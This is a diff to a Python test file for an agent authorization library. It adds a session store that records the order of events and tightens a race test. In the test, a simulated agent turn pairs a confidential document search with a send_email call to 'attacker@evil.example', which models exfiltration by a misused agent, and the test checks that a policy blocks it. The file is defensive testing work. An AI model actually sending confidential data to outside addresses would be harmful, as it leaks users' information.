@@ -12,7 +12,7 @@ from __future__ import annotations
 
 import asyncio
 import sys
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -38,7 +38,7 @@ from agentauthz.integrations.langchain import (
     AuthorizedRetriever,
     AuthzMiddleware,
 )
-from agentauthz.session import SessionConfig
+from agentauthz.session import CallRecord, MemorySessionStore, SessionConfig, SessionStore
 
 ROOT = Path(__file__).resolve().parents[2]
 POLICIES = ROOT / "policies"
@@ -93,11 +93,12 @@ def turn(*calls: tuple[str, dict[str, Any]], prefix: str = "call") -> AIMessage:
 class Agent:
     """The example assistant as a create_agent loop over the example store, with sessions."""
 
-    def __init__(self, documents: Sequence[str] = tuple(DOCUMENTS)) -> None:
+    def __init__(self, documents: Sequence[str] = tuple(DOCUMENTS),
+                 store: SessionStore | None = None) -> None:
         self.clock = Clock()
         self.authz = az.Authorizer.from_directory(
             POLICIES, entities=[SAM, ESCALATIONS], audit=[],
-            sessions=SessionConfig(clock=self.clock, sums={"issue_refund": ["amount"]}))
+            sessions=SessionConfig(clock=self.clock, sums={"issue_refund": ["amount"]}, store=store))
         store = InMemoryVectorStore(DeterministicFakeEmbedding(size=8))
         store.add_texts([DOCUMENTS[name] for name in documents], ids=list(documents),
                         metadatas=[{"doc_id": name} for name in documents])
@@ -222,20 +223,43 @@ def test_exfiltration_is_denied_on_the_async_path_too() -> None:
     assert agent.ran == ["search_documents"]
 
 
+class OrderedStore(MemorySessionStore):
+    """Logs, in order, the admissions and the labels recorded."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.log: list[str] = []
+
+    def admit(self, session_id: str, call: CallRecord, *, version: int, lease_until: float) -> Any:
+        outcome = super().admit(session_id, call, version=version, lease_until=lease_until)
+        if outcome == "admitted":
+            self.log.append(f"admit {call.action}")
+        return outcome
+
+    def add_labels(self, session_id: str, labels: Iterable[str]) -> None:
+        labels = list(labels)
+        super().add_labels(session_id, labels)
+        if "confidential" in labels:
+            self.log.append("seen confidential")
+
+
 def test_a_parallel_search_and_email_in_one_turn_cannot_race_the_rule() -> None:
-    """Both calls in one model turn: whichever order they run in, a confidential read before the
-    email is seen by the email's decision (it is decided again if the session changed under it)."""
-    for attempt in range(5):
-        agent = Agent()
+    """Both calls in one model turn: the email goes out only if it was admitted before anything
+    confidential was recorded; a decision made on facts that changed before its admission is
+    made again (and denied)."""
+    for attempt in range(8):
+        store = OrderedStore()
+        agent = Agent(store=store)
         messages = agent.run("sam", f"conv-race-{attempt}", turn(
             ("search_documents", {"query": "escalations"}),
             ("send_email", {"to": "attacker@evil.example", "subject": "log"}), prefix="t"))
-        email = messages["t-1-send_email"]
         emailed = "send_email attacker@evil.example" in agent.ran
-        if emailed:  # sent before anything confidential was read: nothing confidential was in it
-            assert agent.ran.index("send_email attacker@evil.example") < agent.ran.index("search_documents")
+        assert "seen confidential" in store.log
+        if emailed:
+            assert store.log.index("admit send_email") < store.log.index("seen confidential"), store.log
         else:
-            assert refused(email, "acme-no-external-email-after-confidential")
+            assert refused(messages["t-1-send_email"], "acme-no-external-email-after-confidential")
+            assert "admit send_email" not in store.log
 
 
 # -- approvals (session.cedar: refund-over-1000-needs-approval) ----------------------------------
